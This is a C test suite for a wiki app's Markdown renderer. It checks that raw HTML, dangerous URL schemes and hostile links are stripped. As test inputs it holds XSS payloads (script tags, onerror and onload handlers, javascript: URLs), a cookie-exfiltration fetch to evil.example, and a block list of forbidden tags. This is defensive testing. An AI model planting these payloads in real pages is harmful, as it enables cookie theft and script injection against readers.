/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>

#include "mer-markdown.h"
#include "mer-test-util.h"

/* Every value of an attribute ATTR (e.g. "href") in HTML, for checking
 * that no dangerous URL survived rendering. */
static GPtrArray *
attribute_values (const char *html,
                  const char *attr)
{
  GPtrArray *values = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *needle = g_strdup_printf (" %s=\"", attr);
  const char *p = html;

  while ((p = strstr (p, needle)) != NULL)
    {
      const char *start = p + strlen (needle);
      const char *end = strchr (start, '"');

      g_assert_nonnull (end);
      g_ptr_array_add (values, g_strndup (start, end - start));
      p = end;
    }

  return values;
}

static void
assert_contains (const char *html,
                 const char *needle)
{
  if (strstr (html, needle) == NULL)
    g_error ("expected “%s” in:\n%s", needle, html);
}

static void
assert_lacks (const char *html,
              const char *needle)
{
  g_autofree char *lower = g_ascii_strdown (html, -1);
  g_autofree char *lower_needle = g_ascii_strdown (needle, -1);

  if (strstr (lower, lower_needle) != NULL)
    g_error ("did not expect “%s” in:\n%s", needle, html);
}

/* Resolves titles and paths from a small fixed table, case-insensitively,
 * like the store does. */
static char *
table_resolver (const char *target,
                gpointer    user_data)
{
  GHashTable *pages = user_data;
  g_autofree char *key = g_utf8_casefold (target, -1);

  return g_strdup (g_hash_table_lookup (pages, key));
}

static GHashTable *
make_pages (void)
{
  GHashTable *pages = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);

  g_hash_table_insert (pages, g_utf8_casefold ("On-call", -1), g_strdup ("page:on-call"));
  g_hash_table_insert (pages, g_utf8_casefold ("engineering/on-call", -1), g_strdup ("page:on-call"));
  g_hash_table_insert (pages, g_utf8_casefold ("Writing proposals", -1), g_strdup ("page:writing-proposals"));
  return pages;
}

static void
test_markdown_basic (void)
{
  g_autofree char *html = mer_markdown_to_html ("# Title\n\nSome *em* and **strong** text.\n\n"
                                                "> quoted\n\n```c\nint x = 1 < 2;\n```\n",
                                                NULL, NULL, NULL);

  assert_contains (html, "<h1 id=\"title\">Title</h1>");
  assert_contains (html, "<em>em</em>");
  assert_contains (html, "<strong>strong</strong>");
  assert_contains (html, "<blockquote>");
  assert_contains (html, "<pre><code class=\"language-c\">int x = 1 &lt; 2;");
}

/* Typographic punctuation in prose, never in code. */
static void
test_markdown_smart_punctuation (void)
{
  g_autofree char *html = mer_markdown_to_html ("\"Quoted\" -- it's done...\n\n`\"raw\" -- code`\n",
                                                NULL, NULL, NULL);

  assert_contains (html, "“Quoted” – it’s done…");
  assert_contains (html, "<code>&quot;raw&quot; -- code</code>");
}

static void
test_markdown_extensions (void)
{
  const char *md =
    "| Zone | Hours |\n"
    "|:-----|------:|\n"
    "| Berlin | 09–17 |\n"
    "\n"
    "- [x] done\n"
    "- [ ] to do\n"
    "\n"
    "This is ~~gone~~ now.\n"
    "\n"
    "See www.example.org and https://gnome.org/ or write to team@example.org.\n";
  g_autofree char *html = mer_markdown_to_html (md, NULL, NULL, NULL);

  assert_contains (html, "<table>");
  assert_contains (html, "<th align=\"left\">Zone</th>");
  assert_contains (html, "<td align=\"right\">09–17</td>");
  assert_contains (html, "type=\"checkbox\"");
  assert_contains (html, "checked=\"\"");
  assert_contains (html, "<del>gone</del>");
  assert_contains (html, "<a href=\"http://www.example.org\">www.example.org</a>");
  assert_contains (html, "<a href=\"https://gnome.org/\">https://gnome.org/</a>");
  assert_contains (html, "<a href=\"mailto:team@example.org\">team@example.org</a>");
}

static void
test_markdown_raw_html_removed (void)
{
  const char *md =
    "<script>alert('block')</script>\n"
    "\n"
    "<div onclick=\"steal()\">\n"
    "<p>inside a block</p>\n"
    "</div>\n"
    "\n"
    "Text with <span style=\"color:red\">inline</span> tags and "
    "<img src=http://tracker.example/pixel.gif onerror=alert(1)> an image.\n"
    "\n"
    "<iframe src=\"https://evil.example/\"></iframe>\n"
    "\n"
    "<!-- a comment -->\n"
    "\n"
    "<style>body { display: none }</style>\n";
  g_autofree char *html = mer_markdown_to_html (md, NULL, NULL, NULL);

  assert_lacks (html, "<script");
  assert_lacks (html, "alert");
  assert_lacks (html, "<div");
  assert_lacks (html, "onclick");
  assert_lacks (html, "<span");
  assert_lacks (html, "<img");
  assert_lacks (html, "onerror");
  assert_lacks (html, "tracker.example");
  assert_lacks (html, "<iframe");
  assert_lacks (html, "evil.example");
  assert_lacks (html, "<!--");
  assert_lacks (html, "<style");
  assert_lacks (html, "display: none");
  /* The words between inline tags are the author's text and stay. */
  assert_contains (html, "Text with inline tags and  an image.");
  /* Nothing is left as an empty paragraph. */
  assert_lacks (html, "<p></p>");
}

static void
test_markdown_url_schemes (void)
{
  const struct { const char *url; gboolean safe; } cases[] = {
    { "https://gnome.org/", TRUE },
    { "http://example.org/a?b#c", TRUE },
    { "HTTPS://EXAMPLE.ORG", TRUE },
    { "mailto:ana@example.org", TRUE },
    { "meridian://page/page%3Aon-call", TRUE },
    { "engineering/on-call", TRUE },
    { "../up/one", TRUE },
    { "/absolute/path", TRUE },
    { "#heading", TRUE },
    { "?q=1", TRUE },
    { "with/colon:after-slash", TRUE },
    { "", TRUE },
    { "javascript:alert(1)", FALSE },
    { "JaVaScRiPt:alert(1)", FALSE },
    { "java\tscript:alert(1)", FALSE },
    { " javascript:alert(1)", FALSE },
    { "\x01javascript:alert(1)", FALSE },
    { "vbscript:msgbox", FALSE },
    { "data:text/html;base64,PHNjcmlwdD4=", FALSE },
    { "data:image/png;base64,iVBORw0KGgo=", FALSE },
    { "file:///etc/passwd", FALSE },
    { "ftp://example.org/", FALSE },
    { "//evil.example/x", FALSE },
    { "\\\\evil.example\\x", FALSE },
    { "/\\evil.example", FALSE },
    { "page:on-call", FALSE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    if (mer_markdown_is_safe_url (cases[i].url) != cases[i].safe)
      g_error ("“%s” should be %s", cases[i].url, cases[i].safe ? "safe" : "unsafe");
}

static void assert_only_markdown_tags (const char *html);

/* A page written to attack the reader: every trick must come out inert. */
static void
test_markdown_hostile_page (void)
{
  const char *md =
    "# Totally normal page\n"
    "\n"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
    "\n"
    "<img src=http://evil.example/beacon.png>\n"
    "\n"
    "![beacon](http://evil.example/beacon2.png)\n"
    "\n"
    "![inline](javascript:alert(2))\n"
    "\n"
    "[click me](javascript:alert(3)) and [or me](JAVASCRIPT:alert(4))\n"
    "[tabbed](java&#x09;script:alert(5)) [entity](&#106;avascript:alert(6))\n"
    "[vb](vbscript:msgbox(7)) [data](data:text/html;base64,PHNjcmlwdD4=)\n"
    "[file](file:///etc/passwd) [relative-proto](//evil.example/x)\n"
    "\n"
    "[ref link][bad]\n"
    "\n"
    "[bad]: javascript:alert(8)\n"
    "\n"
    "Inline <b onmouseover=\"alert(9)\">bold</b> and <a href=\"javascript:alert(10)\">raw link</a>.\n"
    "\n"
    "<iframe src=\"https://evil.example/frame\"></iframe>\n"
    "\n"
    "<object data=\"https://evil.example/x.swf\"></object>\n"
    "<embed src=\"https://evil.example/y\">\n"
    "\n"
    "<svg onload=alert(11)><circle r=5 /></svg>\n"
    "\n"
    "<form action=\"https://evil.example/\"><input name=p></form>\n"
    "\n"
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n"
    "\n"
    "<base href=\"https://evil.example/\">\n"
    "\n"
    "<link rel=stylesheet href=https://evil.example/x.css>\n"
    "\n"
    "| a | b |\n|---|---|\n| <script>x()</script> | <img src=x onerror=y()> |\n"
    "\n"
    "- [ ] <span onclick=\"z()\">task</span>\n"
    "\n"
    "[[Good page|<script>label</script>]]\n";
  g_autoptr(GHashTable) pages = make_pages ();
  g_autofree char *html = mer_markdown_to_document (md, "<script>title</script>",
                                                    table_resolver, pages, NULL);
  g_autoptr(GPtrArray) hrefs = attribute_values (html, "href");
  g_autoptr(GPtrArray) srcs = attribute_values (html, "src");
  const char *body = strstr (html, "<body>");
  const char * const forbidden[] = {
    "<script", "<img", "<iframe", "<object", "<embed", "<svg", "<form",
    "<base", "<link", "<b ", "<span", "onerror", "onload", "onclick",
    "onmouseover", "javascript:", "vbscript:", "data:text", "file:",
    "document.cookie", "alert(", "msgbox",
  };
  const char *beacon;

  g_assert_nonnull (body);
  for (guint i = 0; i < G_N_ELEMENTS (forbidden); i++)
    assert_lacks (body, forbidden[i]);

  /* The only trace of evil.example is the image turned into a plain link,
   * which loads nothing until the reader opens it in a browser. */
  beacon = strstr (body, "evil.example");
  g_assert_nonnull (beacon);
  g_assert_null (strstr (beacon + 1, "evil.example"));
  assert_contains (body, "<a href=\"http://evil.example/beacon2.png\">beacon</a>");
  assert_lacks (body, "<p>\n</p>");

  /* Only one <meta http-equiv>: ours. */
  g_assert_true (strstr (strstr (html, "http-equiv") + 1, "http-equiv") == NULL);
  assert_lacks (html, "<title><script");
  assert_contains (html, "<title>&lt;script&gt;title&lt;/script&gt;</title>");

  g_assert_cmpuint (srcs->len, ==, 0);
  for (guint i = 0; i < hrefs->len; i++)
    {
      const char *href = hrefs->pdata[i];

      if (!g_str_has_prefix (href, "meridian://") && !g_str_has_prefix (href, "http://")
          && !g_str_has_prefix (href, "https://"))
        g_error ("unexpected href “%s”", href);
    }

  {
    g_autofree char *fragment = mer_markdown_to_html (md, table_resolver, pages, NULL);

    assert_only_markdown_tags (fragment);
  }

  /* The labels of neutralised links survive as text. */
  assert_contains (body, "click me");
  assert_contains (body, "ref link");
  assert_contains (body, "raw link");
}

static void
test_markdown_images (void)
{
  g_autofree char *png = mer_markdown_to_html ("![dot](data:image/png;base64,iVBORw0KGgo=)", NULL, NULL, NULL);
  g_autofree char *svg = mer_markdown_to_html ("![svg](data:image/svg+xml;base64,PHN2Zz4=)", NULL, NULL, NULL);
  g_autofree char *local = mer_markdown_to_html ("![map](meridian://file/map.png)", NULL, NULL, NULL);
  g_autofree char *remote = mer_markdown_to_html ("![team photo](https://example.org/team.jpg \"Team\")", NULL, NULL, NULL);
  g_autofree char *bare = mer_markdown_to_html ("![](https://example.org/x.jpg)", NULL, NULL, NULL);

  assert_contains (png, "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\"");
  assert_lacks (svg, "<img");
  assert_contains (svg, "svg");
  assert_contains (local, "<img src=\"meridian://file/map.png\" alt=\"map\"");
  /* An image from the network becomes a link to it, never a load. */
  assert_lacks (remote, "<img");
  assert_contains (remote, "<a href=\"https://example.org/team.jpg\" title=\"Team\">team photo</a>");
  assert_contains (bare, "<a href=\"https://example.org/x.jpg\">https://example.org/x.jpg</a>");
}

static void
test_markdown_wiki_links (void)
{
  const char *md =
    "Read [[On-call]] first, then [[engineering/on-call|the rota]] and "
    "[[ writing proposals ]].\n"
    "\n"
    "A page that does not exist: [[Nowhere Land]]; with a fragment: "
    "[[On-call#Escalation path]].\n"
    "\n"
    "In code: `[[On-call]]`\n"
    "\n"
    "    [[On-call]] in a code block\n"
    "\n"
    "Not links: [[]] and [[|label]] and [[unclosed.\n";
  g_autoptr(GHashTable) pages = make_pages ();
  g_autofree char *html = mer_markdown_to_html (md, table_resolver, pages, NULL);
  g_autofree char *unresolved = mer_markdown_to_html ("[[On-call]]", NULL, NULL, NULL);

  assert_contains (html, "<a href=\"meridian://page/page%3Aon-call\" title=\"On-call\">On-call</a>");
  assert_contains (html, "<a href=\"meridian://page/page%3Aon-call\" title=\"engineering/on-call\">the rota</a>");
  assert_contains (html, "<a href=\"meridian://page/page%3Awriting-proposals\" title=\"writing proposals\">writing proposals</a>");
  assert_contains (html, "<a class=\"missing\" href=\"meridian://new-page/Nowhere%20Land\" title=\"Nowhere Land\">Nowhere Land</a>");
  assert_contains (html, "<a href=\"meridian://page/page%3Aon-call#escalation-path\" title=\"On-call\">On-call#Escalation path</a>");
  assert_contains (html, "<code>[[On-call]]</code>");
  assert_contains (html, "<pre><code>[[On-call]] in a code block");
  assert_contains (html, "Not links: [[]] and [[|label]] and [[unclosed.");
  /* Without a resolver every wiki link is a missing page. */
  assert_contains (unresolved, "<a class=\"missing\" href=\"meridian://new-page/On-call\"");
}

static void
test_markdown_uris (void)
{
  g_autofree char *uri = mer_markdown_page_uri ("page:team/ünïcode & more");
  g_autofree char *back = mer_markdown_page_id_from_uri (uri);
  g_autofree char *with_fragment = mer_markdown_page_id_from_uri ("meridian://page/page%3Aon-call#escalation");
  g_autofree char *new_uri = mer_markdown_new_page_uri ("Team rituals");
  g_autofree char *target = mer_markdown_new_page_target_from_uri (new_uri);
  g_autofree char *not_page = mer_markdown_page_id_from_uri ("https://gnome.org/");

  g_assert_true (g_str_has_prefix (uri, MER_MARKDOWN_PAGE_URI_PREFIX));
  g_assert_null (strchr (uri + strlen (MER_MARKDOWN_PAGE_URI_PREFIX), ' '));
  g_assert_cmpstr (back, ==, "page:team/ünïcode & more");
  g_assert_cmpstr (with_fragment, ==, "page:on-call");
  g_assert_cmpstr (target, ==, "Team rituals");
  g_assert_null (not_page);
  g_assert_null (mer_markdown_page_id_from_uri (MER_MARKDOWN_PAGE_URI_PREFIX));
}

static void
test_markdown_outline (void)
{
  const char *md =
    "# On-call\n"
    "\n"
    "## Who is on call\n"
    "\n"
    "### The `pager` rota\n"
    "\n"
    "## Who is on call\n"
    "\n"
    "Setext heading\n"
    "--------------\n"
    "\n"
    "## See [[Writing proposals|proposals]]\n"
    "\n"
    "## !!!\n"
    "\n"
    "> ## Quoted heading\n";
  g_autoptr(GHashTable) pages = make_pages ();
  g_autoptr(GPtrArray) outline = NULL;
  g_autoptr(GPtrArray) plain = mer_markdown_outline (md);
  g_autofree char *html = mer_markdown_to_html (md, table_resolver, pages, &outline);
  const struct { int level; const char *text; const char *anchor; } expected[] = {
    { 1, "On-call", "on-call" },
    { 2, "Who is on call", "who-is-on-call" },
    { 3, "The pager rota", "the-pager-rota" },
    { 2, "Who is on call", "who-is-on-call-1" },
    { 2, "Setext heading", "setext-heading" },
    { 2, "See proposals", "see-proposals" },
    { 2, "!!!", "section" },
    { 2, "Quoted heading", "quoted-heading" },
  };

  g_assert_cmpuint (outline->len, ==, G_N_ELEMENTS (expected));
  g_assert_cmpuint (plain->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < outline->len; i++)
    {
      MerHeading *h = outline->pdata[i];
      g_autofree char *tag = g_strdup_printf ("<h%d id=\"%s\">", expected[i].level, expected[i].anchor);

      g_assert_cmpint (h->level, ==, expected[i].level);
      g_assert_cmpstr (h->text, ==, expected[i].text);
      g_assert_cmpstr (h->anchor, ==, expected[i].anchor);
      g_assert_cmpstr (((MerHeading *) plain->pdata[i])->anchor, ==, expected[i].anchor);
      assert_contains (html, tag);
    }
}

static void
test_markdown_anchor_for (void)
{
  const struct { const char *text; const char *anchor; } cases[] = {
    { "Hello, World!", "hello-world" },
    { "  spaced   out  ", "spaced-out" },
    { "snake_case and kebab-case", "snake-case-and-kebab-case" },
    { "Über Zeitzonen", "über-zeitzonen" },
    { "ऑन-कॉल", "ऑन-कॉल" },
    { "2027 Q1 plan", "2027-q1-plan" },
    { "", "section" },
    { "<>&\"'", "section" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *anchor = mer_markdown_anchor_for (cases[i].text);
      g_autofree char *expected = g_utf8_normalize (cases[i].anchor, -1, G_NORMALIZE_NFC);

      /* Devanagari vowel signs are not alphanumeric in every Unicode
       * version; only check the ASCII and Latin cases exactly. */
      if (i == 4)
        g_assert_true (g_utf8_validate (anchor, -1, NULL) && anchor[0] != '\0');
      else
        g_assert_cmpstr (anchor, ==, expected);
    }
}

static void
test_markdown_document (void)
{
  g_autoptr(GPtrArray) outline = NULL;
  g_autofree char *doc = mer_markdown_to_document ("# Focus hours\n\nQuiet *please*.\n",
                                                   "Focus hours & you", NULL, NULL, &outline);

  g_assert_true (g_str_has_prefix (doc, "<!DOCTYPE html>"));
  assert_contains (doc, "<meta charset=\"utf-8\">");
  assert_contains (doc, "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; "
                        "img-src meridian: data:; style-src 'unsafe-inline';");
  assert_contains (doc, "@media (prefers-color-scheme: dark)");
  assert_contains (doc, "<title>Focus hours &amp; you</title>");
  assert_contains (doc, "<h1 id=\"focus-hours\">Focus hours</h1>");
  assert_contains (doc, "<em>please</em>");
  assert_lacks (doc, "<script");
  g_assert_cmpuint (outline->len, ==, 1);
  g_assert_true (strstr (doc, mer_markdown_stylesheet ()) != NULL);
  g_assert_true (g_str_has_suffix (doc, "</html>\n"));
}

/* A page's relative images and links that name the revision's
 * attachments: images as <img> from meridian://att/ inside a link to the
 * full size, other files as chips, nothing else touched. */
static void
test_markdown_attachments (void)
{
  g_autoptr(JsonObject) doc = mer_test_object (
    "{\"_id\":\"page:a b\",\"_rev\":\"2-abc\",\"_attachments\":{"
    "\"chart.png\":{\"content_type\":\"image/png\",\"length\":120,\"stub\":true},"
    "\"logo <x>.svg\":{\"content_type\":\"image/svg+xml\",\"length\":80,\"stub\":true},\"logo x.svg\":{\"content_type\":\"image/svg+xml\",\"length\":80,\"stub\":true},"
    "\"q3.pdf\":{\"content_type\":\"application/pdf\",\"length\":2048,\"stub\":true},"
    "\"evil.html\":{\"content_type\":\"text/html\",\"length\":10,\"stub\":true}}}");
  g_autofree char *html = NULL;
  g_autofree char *doc_id = NULL;
  g_autofree char *rev = NULL;
  g_autofree char *name = NULL;

  html = mer_markdown_doc_to_document (doc,
                                       "![A chart](chart.png)\n\n"
                                       "![logo](<logo x.svg>) and ![](./logo%20%3Cx%3E.svg)\n\n"
                                       "See [the report](q3.pdf) and ![evil](evil.html) and [evil](evil.html).\n\n"
                                       "[the chart](chart.png) [![in a link](chart.png)](https://example.com/)\n\n"
                                       "![missing](other.png) [elsewhere](https://example.com/chart.png)\n",
                                       "T", NULL, NULL, NULL);
  assert_contains (html, "<a class=\"mer-image\" href=\"meridian://att/page%3Aa%20b/2-abc/chart.png\" "
                         "title=\"View chart.png full size\">"
                         "<img src=\"meridian://att/page%3Aa%20b/2-abc/chart.png\" alt=\"A chart\"></a>");
  assert_contains (html, "<img src=\"meridian://att/page%3Aa%20b/2-abc/logo%20x.svg\" alt=\"logo\">");
  assert_contains (html, "<img src=\"meridian://att/page%3Aa%20b/2-abc/logo%20%3Cx%3E.svg\" alt=\"logo &lt;x&gt;.svg\">");
  assert_contains (html, "<a class=\"mer-attachment\" href=\"meridian://att/page%3Aa%20b/2-abc/q3.pdf\" title=\"Open q3.pdf\">"
                         "<span class=\"mer-attachment-name\">q3.pdf</span> ");
  assert_contains (html, "kB</span></a>");
  assert_contains (html, "<span class=\"mer-attachment-name\">evil.html</span>");
  assert_lacks (html, "src=\"meridian://att/page%3Aa%20b/2-abc/evil.html\"");
  assert_contains (html, "<a href=\"meridian://att/page%3Aa%20b/2-abc/chart.png\">the chart</a>");
  assert_contains (html, "<a href=\"https://example.com/\"><img src=\"meridian://att/page%3Aa%20b/2-abc/chart.png\" alt=\"in a link\"></a>");
  assert_contains (html, "<img src=\"other.png\" alt=\"missing\" />");
  assert_contains (html, "<a href=\"https://example.com/chart.png\">elsewhere</a>");
  assert_lacks (html, "<script");

  g_clear_pointer (&html, g_free);

  /* An imported page's links, kept as written, reach the attachments
   * `meridian import` named after their paths in the folder. */
  {
    g_autoptr(JsonObject) imported = mer_test_object (
      "{\"_id\":\"page:x\",\"_rev\":\"1-abc\",\"_attachments\":{"
      "\"img/a b.png\":{\"content_type\":\"image/png\",\"length\":120,\"stub\":true}},"
      "\"attachment_links\":{\"../img/a%20b.png\":\"img/a b.png\",\"../img/gone.png\":\"img/gone.png\"}}");

    html = mer_markdown_doc_to_document (imported, "![A](../img/a%20b.png) ![B](../img/gone.png)\n",
                                         "T", NULL, NULL, NULL);
    assert_contains (html, "<img src=\"meridian://att/page%3Ax/1-abc/img%2Fa%20b.png\" alt=\"A\">");
    assert_contains (html, "<img src=\"../img/gone.png\" alt=\"B\" />");
  }

  g_assert_true (mer_markdown_parse_attachment_uri ("meridian://att/page%3Aa%20b/2-abc/logo%20%3Cx%3E.svg#x",
                                                    &doc_id, &rev, &name));
  g_assert_cmpstr (doc_id, ==, "page:a b");
  g_assert_cmpstr (rev, ==, "2-abc");
  g_assert_cmpstr (name, ==, "logo <x>.svg");
  g_assert_false (mer_markdown_parse_attachment_uri ("meridian://att/page%3Aa/2-abc", NULL, NULL, NULL));
  g_assert_false (mer_markdown_parse_attachment_uri ("meridian://page/page%3Aa", NULL, NULL, NULL));
  g_assert_true (mer_markdown_is_image_type ("IMAGE/PNG; charset=binary"));
  g_assert_true (mer_markdown_is_image_type ("image/svg+xml"));
  g_assert_false (mer_markdown_is_image_type ("text/html"));
  g_assert_false (mer_markdown_is_image_type (NULL));
}

/* Obsidian embeds of the revision's attachments: an image with its alt
 * text and its width, a file as a chip; an embed that names no attachment
 * stays the wiki link it was, and a hostile alt or name is escaped. */
static void
test_markdown_obsidian_embeds (void)
{
  g_autoptr(JsonObject) doc = mer_test_object (
    "{\"_id\":\"page:v\",\"_rev\":\"3-abc\",\"_attachments\":{"
    "\"name.png\":{\"content_type\":\"image/png\",\"length\":120,\"stub\":true},"
    "\"my diagram.png\":{\"content_type\":\"image/png\",\"length\":120,\"stub\":true},"
    "\"assets/x&y.png\":{\"content_type\":\"image/png\",\"length\":120,\"stub\":true},"
    "\"spec.pdf\":{\"content_type\":\"application/pdf\",\"length\":2048,\"stub\":true}}}");
  g_autofree char *html = NULL;
#define IMG "meridian://att/page%3Av/3-abc/"

  html = mer_markdown_doc_to_document (doc,
                                       "A: ![[name.png]]\n\n"
                                       "B: ![[name.png|The rota at a glance]]\n\n"
                                       "C: ![[name.png|The rota|300]]\n\n"
                                       "D: ![[ my diagram.png | 640 ]] end\n\n"
                                       "E: ![[name.png|300x200]]\n\n"
                                       "F: ![[spec.pdf]]\n\n"
                                       "G: ![[assets/x&y.png|a & b|12]] ![[name.png|<script>alert(1)</script>]]\n\n"
                                       "H: ![[Some note]] and ![[gone.png|300]] and [[name.png]]\n\n"
                                       "I: `![[name.png]]` and text!![[name.png|9]]\n",
                                       "T", NULL, NULL, NULL);
  assert_contains (html, "A: <a class=\"mer-image\" href=\"" IMG "name.png\" title=\"View name.png full size\">"
                         "<img src=\"" IMG "name.png\" alt=\"name.png\"></a>");
  assert_contains (html, "B: <a class=\"mer-image\" href=\"" IMG "name.png\" title=\"View name.png full size\">"
                         "<img src=\"" IMG "name.png\" alt=\"The rota at a glance\"></a>");
  assert_contains (html, "C: <a class=\"mer-image\" href=\"" IMG "name.png\" title=\"View name.png full size\">"
                         "<img src=\"" IMG "name.png\" alt=\"The rota\" width=\"300\"></a>");
  assert_contains (html, "<img src=\"" IMG "my%20diagram.png\" alt=\"my diagram.png\" width=\"640\"></a> end");
  assert_contains (html, "E: <a class=\"mer-image\" href=\"" IMG "name.png\" title=\"View name.png full size\">"
                         "<img src=\"" IMG "name.png\" alt=\"name.png\" width=\"300\" height=\"200\"></a>");
  assert_contains (html, "F: <a class=\"mer-attachment\" href=\"" IMG "spec.pdf\" title=\"Open spec.pdf\">");
  assert_contains (html, "<img src=\"" IMG "assets%2Fx%26y.png\" alt=\"a &amp; b\" width=\"12\">");
  assert_lacks (html, "<script");
  /* Not attachments: the wiki links they always were. */
  assert_contains (html, "H: !<a class=\"missing\" href=\"");
  assert_contains (html, ">Some note</a> and !<a class=\"missing\"");
  assert_contains (html, "title=\"gone.png\">gone.png</a> and <a class=\"missing\"");
  assert_lacks (html, "src=\"gone.png\"");
  /* Code stays code; a "!" before the embed's own stays text. */
  assert_contains (html, "<code>![[name.png]]</code>");
  assert_contains (html, "text!<a class=\"mer-image\"");
  assert_contains (html, "alt=\"name.png\" width=\"9\">");

  /* Without a revision's attachments (no doc), an embed is a wiki link. */
  g_clear_pointer (&html, g_free);
  html = mer_markdown_to_html ("![[name.png|300]]\n", NULL, NULL, NULL);
  assert_lacks (html, "<img");
  assert_contains (html, "!<a class=\"missing\"");
#undef IMG
}

static void
test_markdown_word_count (void)
{
  g_autofree char *label0 = mer_markdown_reading_time_label (0);
  g_autofree char *label1 = mer_markdown_reading_time_label (100);
  g_autofree char *label5 = mer_markdown_reading_time_label (1150);
  GString *long_text = g_string_new (NULL);

  g_assert_cmpuint (mer_markdown_word_count (NULL), ==, 0);
  g_assert_cmpuint (mer_markdown_word_count (""), ==, 0);
  g_assert_cmpuint (mer_markdown_word_count ("# Title\n\nOne two — three.\n\n- four\n- five\n"), ==, 6);
  g_assert_cmpuint (mer_markdown_word_count ("**bold**, *em* and `code` don't split"), ==, 6);
  g_assert_cmpuint (mer_markdown_word_count ("see [the rota](https://example.org/a/b)"), ==, 3);
  g_assert_cmpuint (mer_markdown_word_count ("[[engineering/on-call|the rota]] now"), ==, 3);
  g_assert_cmpuint (mer_markdown_word_count ("<script>a b c d</script>\n\nok"), ==, 1);
  g_assert_cmpuint (mer_markdown_word_count ("Zeitzonen überall, 時間"), ==, 3);

  for (guint i = 0; i < 1000; i++)
    g_string_append (long_text, "word ");
  g_assert_cmpuint (mer_markdown_word_count (long_text->str), ==, 1000);
  g_string_free (long_text, TRUE);

  g_assert_cmpuint (mer_markdown_reading_minutes (0), ==, 0);
  g_assert_cmpuint (mer_markdown_reading_minutes (1), ==, 1);
  g_assert_cmpuint (mer_markdown_reading_minutes (230), ==, 1);
  g_assert_cmpuint (mer_markdown_reading_minutes (460), ==, 2);
  g_assert_cmpuint (mer_markdown_reading_minutes (1150), ==, 5);
  g_assert_cmpstr (label1, ==, "1 minute read");
  g_assert_cmpstr (label5, ==, "5 minutes read");
  g_assert_cmpstr (label0, ==, "Nothing to read");
}

static void
test_markdown_plain_text (void)
{
  g_autofree char *text = mer_markdown_to_plain_text ("# Title\n\nSome *em* <b>bold</b> [[a/b|label]].\n");

  assert_contains (text, "Title");
  assert_contains (text, "Some em bold label.");
  assert_lacks (text, "<b>");
  assert_lacks (text, "*");
}

/* Hostile bytes: invalid UTF-8, NUL-free garbage, deep nesting; the output
 * must be valid UTF-8 and rendering must not crash. */
static void
test_markdown_garbage (void)
{
  GString *deep = g_string_new (NULL);
  g_autofree char *bad_html = mer_markdown_to_html ("caf\xc3 \xff\xfe [[\xff]] # \x80", NULL, NULL, NULL);
  g_autofree char *deep_html = NULL;
  g_autofree char *empty = mer_markdown_to_html ("", NULL, NULL, NULL);
  g_autofree char *null_doc = mer_markdown_to_document (NULL, NULL, NULL, NULL, NULL);

  g_assert_true (g_utf8_validate (bad_html, -1, NULL));

  for (guint i = 0; i < 2000; i++)
    g_string_append (deep, "> ");
  g_string_append (deep, "deep\n");
  for (guint i = 0; i < 2000; i++)
    g_string_append (deep, "[");
  deep_html = mer_markdown_to_html (deep->str, NULL, NULL, NULL);
  g_string_free (deep, TRUE);
  assert_contains (deep_html, "deep");

  g_assert_cmpstr (empty, ==, "");
  assert_contains (null_doc, "</html>");
}

/* Every tag in rendered output must be one the renderer itself writes for
 * Markdown; anything else means raw HTML got through. */
static void
assert_only_markdown_tags (const char *html)
{
  static const char * const allowed[] = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "em", "strong", "code",
    "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr",
    "th", "td", "del", "hr", "br", "img", "input",
  };

  for (const char *p = strchr (html, '<'); p != NULL; p = strchr (p + 1, '<'))
    {
      const char *name = p[1] == '/' ? p + 2 : p + 1;
      gsize len = strspn (name, "abcdefghijklmnopqrstuvwxyz0123456789");
      gboolean ok = FALSE;

      for (guint i = 0; i < G_N_ELEMENTS (allowed) && !ok; i++)
        ok = strlen (allowed[i]) == len && strncmp (name, allowed[i], len) == 0
             && (name[len] == '>' || name[len] == ' ' || name[len] == '/');
      if (!ok)
        g_error ("unexpected tag at “%.40s” in:\n%s", p, html);

      /* And only the renderer's own attributes, never an on* handler. */
      for (const char *q = name + len; *q != '>' && *q != '\0'; q++)
        {
          static const char * const attributes[] = {
            "href", "title", "src", "alt", "class", "id", "align", "type",
            "checked", "disabled", "start",
          };
          gsize alen;
          gboolean known = FALSE;

          if (*q == '"')
            {
              q = strchr (q + 1, '"');
              g_assert_nonnull (q);
              continue;
            }
          if (*q != ' ')
            continue;
          alen = strspn (q + 1, "abcdefghijklmnopqrstuvwxyz-");
          if (alen == 0)
            continue;
          for (guint i = 0; i < G_N_ELEMENTS (attributes) && !known; i++)
            known = strlen (attributes[i]) == alen && strncmp (q + 1, attributes[i], alen) == 0;
          if (!known)
            g_error ("unexpected attribute at “%.40s” in:\n%s", q, html);
        }
    }
}

/* Documents stitched at random from hostile fragments and Markdown syntax
 * (reproducible with --seed): whatever the mix, only Markdown's own tags
 * come out, every URL is safe and the text is valid UTF-8. */
static void
test_markdown_random_hostile (void)
{
  static const char * const fragments[] = {
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=//evil.example>",
    "<a href=\"javascript:alert(1)\">x</a>", "[x](javascript:alert(1))", "[y](vbscript:z)",
    "![i](http://evil.example/i.png)", "![d](data:text/html,<script>x</script>)",
    "<svg/onload=alert(1)>", "<style>*{}</style>", "<!-- c -->", "<div\nonclick=x>",
    "</p><script>", "<<script>>", "&lt;script&gt;", "&#60;script&#62;", "`<script>`",
    "[[On-call]]", "[[a|<b>]]", "[[\"><script>]]", "[[x#\"onmouseover=\"y]]", "[z](<javascript:x>)",
    "<javascript:alert(1)>", "www.example.org/<script>", "https://a.example/\"onclick=\"x",
    "# ", "## ", "> ", "- ", "1. ", "- [ ] ", "| a | b |\n|---|---|\n| ", "```\n", "    ",
    "*", "**", "~~", "_", "[", "]", "(", ")", "\n", "\n\n", " ", "text", "\xc3\xa9", "\xff",
